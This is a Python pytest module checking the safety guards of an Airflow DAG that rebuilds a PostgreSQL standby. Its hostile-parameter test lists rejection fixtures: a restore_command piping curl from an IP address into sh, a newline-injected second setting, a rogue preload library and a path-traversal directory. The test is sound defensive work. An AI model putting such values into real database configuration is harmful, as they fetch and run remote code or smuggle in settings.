"""The standby rebuild never stops or deletes the primary's data: each way of pointing it at the primary (or at
something that is not the target's own directory) is refused through the real DAG on the lab's replicated pair,
before any side effect, force or not. The primary keeps its files, its postmaster and its writes; the standby is
left streaming; no slot is created.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml
from helpers import load_dag, task_states

pytestmark = [pytest.mark.lab, pytest.mark.airflow]

DAG_ID = "pgops_standby_rebuild__repl"


def _snapshot(data_dir: str) -> dict[str, object]:
    """What must not change on a node a refused rebuild looked at."""
    root = Path(data_dir)
    files = {str(p.relative_to(root)) for p in root.rglob("*") if "pg_stat_tmp" not in p.parts}
    pid = root / "postmaster.pid"
    return {"files": files, "pid_file": pid.read_bytes(), "pid_mtime": pid.stat().st_mtime_ns}


def _assert_untouched(pair, before: dict[str, dict[str, object]]) -> None:
    rl = pair.rl
    for node in (pair.primary, pair.standby):
        now = _snapshot(node.data_dir)
        was = before[node.name]
        missing = was["files"] - now["files"]  # a running server adds files (WAL, stats) but a refusal removes none
        assert not {m for m in missing if not m.startswith(("pg_wal/", "base/pgsql_tmp", "pg_logical/"))}, missing
        assert now["pid_file"] == was["pid_file"] and now["pid_mtime"] == was["pid_mtime"], node.name
    # the primary still takes writes, the standby still replays them
    rl.psql(pair.primary, "CREATE TABLE IF NOT EXISTS guard_probe (id serial PRIMARY KEY, at timestamptz "
                          "DEFAULT now()); INSERT INTO guard_probe DEFAULT VALUES")
    assert rl.psql(pair.primary, "SELECT pg_is_in_recovery()") == "f"
    assert rl.psql(pair.standby, "SELECT pg_is_in_recovery()") == "t"


def _slots(pair) -> str:
    return pair.rl.psql(pair.primary, "SELECT string_agg(slot_name, ',' ORDER BY slot_name) FROM pg_replication_slots")


def _inventory(pair, tmp_path: Path, monkeypatch, *, standby_dir: str | None = None, primary_dir: str | None = ...):
    data = yaml.safe_load(pair.inventory.read_text())
    repl = data["clusters"][0]["replication"]
    if standby_dir is not None:
        repl["standbys"][0]["data_directory"] = standby_dir
    if primary_dir is None:
        repl["primary"].pop("data_directory", None)
    path = tmp_path / "clusters.yaml"
    path.write_text(yaml.safe_dump(data))
    monkeypatch.setenv("PGOPS_INVENTORY", str(path))


def _refused(run_dag, conf: dict) -> str:
    dr = run_dag(load_dag(DAG_ID), conf)
    states = task_states(dr)
    assert states["preflight"] == "failed" and states["restore"] == "upstream_failed", states
    return dr.get_task_instance("preflight").xcom_pull(task_ids="preflight", key="error")


@pytest.fixture
def guarded(replicated_pair):
    pair = replicated_pair
    before = {n.name: _snapshot(n.data_dir) for n in (pair.primary, pair.standby)}
    slots = _slots(pair)
    yield pair
    _assert_untouched(pair, before)
    assert _slots(pair) == slots


@pytest.mark.parametrize("how", ["primary_path", "doubled_slash", "parent", "symlink"])
def test_a_target_directory_that_is_the_primarys_is_refused_even_with_force(guarded, run_dag, tmp_path, monkeypatch,
                                                                              db_tmp_path, how):
    pair = guarded
    pg1_dir = pair.primary.data_dir
    target = {"primary_path": pg1_dir,
              "doubled_slash": pg1_dir.replace("/data", "//data"),
              "parent": str(Path(pg1_dir).parent),
              "symlink": str(db_tmp_path / "looks-like-pg2")}[how]
    if how == "symlink":
        os.symlink(pg1_dir, target)
    _inventory(pair, tmp_path, monkeypatch, standby_dir=target)
    if how == "doubled_slash":  # refused earlier still: the inventory takes plain paths only
        from pgops.inventory import InventoryError, load_inventory

        with pytest.raises(InventoryError, match="data_directory.*Fix:"):
            load_inventory()
        return
    error = _refused(run_dag, {"target": "pg2", "force": True, "socket_dir": pair.standby.socket_dir})
    assert error.startswith("REFUSED: data directory"), error
    assert ("of pg1" in error or "running PostgreSQL" in error) and "force" not in error.split("Fix")[0], error


def test_refused_without_pg_read_all_settings_and_without_the_primarys_dir_in_the_inventory(
        guarded, run_dag, tmp_path, monkeypatch):
    """The monitoring role cannot read data_directory and the inventory does not name the primary's: the host's own
    process table (a postmaster runs in that directory) still refuses it."""
    pair = guarded
    rl = pair.rl
    rl.psql(pair.primary, "DO $$BEGIN IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'pgops_monitor') THEN "
                          "CREATE ROLE pgops_monitor LOGIN PASSWORD 'monitor-pw'; END IF; END$$; "
                          "GRANT pg_read_all_stats TO pgops_monitor; "
                          "GRANT EXECUTE ON FUNCTION pg_control_system(), pg_control_checkpoint() TO pgops_monitor; "
                          "GRANT USAGE ON SCHEMA repmgr TO pgops_monitor; "
                          "GRANT SELECT ON ALL TABLES IN SCHEMA repmgr TO pgops_monitor")
    conn = rl.connection(pair.primary)
    monkeypatch.setenv("AIRFLOW_CONN_PGOPS_REPL_PG1", json.dumps({**conn, "login": "pgops_monitor",
                                                                    "password": "monitor-pw"}))
    from pgops import replication as R
    from pgops.hooks import pg_query

    obs = R.collect(pair.cluster().replication)
    assert not obs.nodes["pg1"].get("error") and obs.nodes["pg1"]["data_directory"] is None, obs.nodes["pg1"]
    assert pg_query("pgops_repl_pg1", "SELECT pg_has_role('pg_read_all_settings', 'USAGE') AS r")[0]["r"] is False
    _inventory(pair, tmp_path, monkeypatch, standby_dir=pair.primary.data_dir, primary_dir=None)
    error = _refused(run_dag, {"target": "pg2", "force": True, "socket_dir": pair.standby.socket_dir})
    # the postmaster running there is not a standby (pg_controldata on the host says "in production")
    assert error.startswith("REFUSED: PostgreSQL (pid ") and "'in production'" in error, error
    assert pair.primary.data_dir in error


def test_the_old_primary_running_writable_is_refused_even_with_force(guarded, run_dag):
    """A node that answers as a primary is never stopped by a rebuild: the connection says so, and so does
    pg_controldata on its host."""
    pair = guarded
    from pgops.dbhost import DbHost

    cluster = pair.cluster()
    host = DbHost.for_node(cluster, cluster.replication.node("pg1"))
    assert host.controldata(pair.primary.data_dir)["Database cluster state"] == "in production"
    # pg1 is the current primary here: refused as such
    error = _refused(run_dag, {"target": "pg1", "force": True, "socket_dir": pair.primary.socket_dir})
    assert error.startswith("REFUSED: pg1 is the current primary"), error


def test_hostile_params_are_refused_by_the_form_and_at_run_time(guarded, run_dag):
    from airflow.sdk.exceptions import AirflowFailException, ParamValidationError

    from pgops.operators.standby import StandbyPreflightOperator, StandbyRestoreOperator

    pair = guarded
    dag = load_dag(DAG_ID)
    hostile = [{"data_directory": pair.standby.data_dir.replace("/data", "//data")},
               {"data_directory": str(Path(pair.standby.data_dir).parent)},
               {"slot": "pg2_typo"},
               {"settings": {"restore_command": "curl http://203.0.113.1/x | sh"}},
               {"settings": {"archive_command": "true"}},
               {"settings": {"shared_preload_libraries": "evil"}},
               {"settings": {"work_mem": "4MB\nrestore_command = 'sh'"}},
               {"socket_dir": "/tmp/../etc"}]
    for conf in hostile:
        with pytest.raises(ParamValidationError):
            _validate(dag, {"target": "pg2", **conf})
    # The same values in a run that skipped the form fail at run time, before anything is done
    for kwargs, expect in [({"data_directory": hostile[0]["data_directory"]}, "not the inventory's data directory"),
                           ({"data_directory": hostile[1]["data_directory"]}, "not the inventory's data directory"),
                           ({"slot": "pg2_typo"}, "not pg2's slot"),
                           ({"settings": hostile[3]["settings"]}, "runs a shell command"),
                           ({"settings": hostile[6]["settings"]}, "newline"),
                           ({"socket_dir": "/tmp/../etc"}, "socket_dir")]:
        op = StandbyPreflightOperator(task_id="preflight", cluster_name="repl", target="pg2", force=True, **kwargs)
        with pytest.raises(AirflowFailException, match=expect):
            op.run_step({})
    with pytest.raises(AirflowFailException, match="runs a shell command"):
        from pgops.operators.standby import checked_settings

        checked_settings(json.dumps(hostile[3]["settings"]))
    assert StandbyRestoreOperator  # the restore step re-checks settings with the same function


def test_a_stale_pid_that_belongs_to_another_process_is_not_signalled(replicated_pair, db_tmp_path):
    """postmaster.pid naming a live process that is not that directory's postmaster: proven on the host, never
    signalled, and the stop reports it."""
    import subprocess

    from pgops.dbhost import DbHost
    from pgops.lab import as_db_user
    from pgops.procs import pid_alive, stop_pid

    cluster = replicated_pair.cluster()
    host = DbHost.for_node(cluster, cluster.replication.node("pg2"))
    fake = db_tmp_path / "data"
    fake.mkdir()
    os.chmod(fake, 0o755)
    # a process of the postgres OS user that is not a postmaster (its cwd is elsewhere), and the lab primary's
    # postmaster: both are "another process" for this directory
    sleeper = subprocess.Popen(as_db_user(["sleep", "300"]), cwd="/", start_new_session=True)
    try:
        for victim in (sleeper.pid, replicated_pair.primary.pid or _pid_of(replicated_pair.primary.data_dir)):
            (fake / "postmaster.pid").write_text(f"{victim}\n{fake}\n")
            pm = host.postmaster(str(fake))
            assert pm.state == "other" and pm.pid == victim and not pm.running
            stopped = host.stop_postmaster(str(fake), mode="immediate", timeout_s=2)
            assert stopped.state == "other"
            assert pid_alive(victim)
        assert sleeper.poll() is None
        assert replicated_pair.rl.psql(replicated_pair.primary, "SELECT 1") == "1"
    finally:
        stop_pid(sleeper.pid, timeout_s=5)
        sleeper.wait(timeout=5)


def _pid_of(data_dir: str) -> int:
    return int((Path(data_dir) / "postmaster.pid").read_text().split()[0])


def _validate(dag, conf: dict) -> None:
    """What the trigger form and the REST API do with a run's conf: merge it into the DAG's params and validate."""
    import copy

    params = copy.deepcopy(dag.params)
    params.update(conf)
    params.validate()


def test_a_slot_the_failed_rebuild_created_is_dropped_again(replicated_pair, run_dag):
    """The last test of this module: it replaces pg2's contents (force) and then fails on purpose."""
    pair = replicated_pair
    rl, pg1, pg2 = pair.rl, pair.primary, pair.standby
    from pgops.operators.backup import BarmanCloudBackupOperator

    BarmanCloudBackupOperator(task_id="backup", cluster_name="repl").execute({"run_id": f"guards-{os.getpid()}"})
    rl.stop(pg2)
    rl.psql(pg1, "SELECT pg_drop_replication_slot('pg2')")
    before = _slots(pair)
    assert "pg2" not in (before or "")
    # a socket directory the postgres OS user cannot create: the restore step fails after it made the slot
    dr = run_dag(load_dag(DAG_ID), {"target": "pg2", "force": True, "socket_dir": f"/root/pgops-nope-{os.getpid()}",
                                    "skip_approval": True})
    states = task_states(dr)
    assert states["preflight"] == "success" and states["restore"] == "failed", states
    assert dr.get_task_instance("preflight").xcom_pull(task_ids="preflight")["slot_exists"] is False
    assert dr.get_task_instance("restore").xcom_pull(task_ids="restore", key="slot_created") is True
    error = dr.get_task_instance("restore").xcom_pull(task_ids="restore", key="error")
    assert "slot pg2 that it created on pg1 was dropped" in error, error
    assert _slots(pair) == before
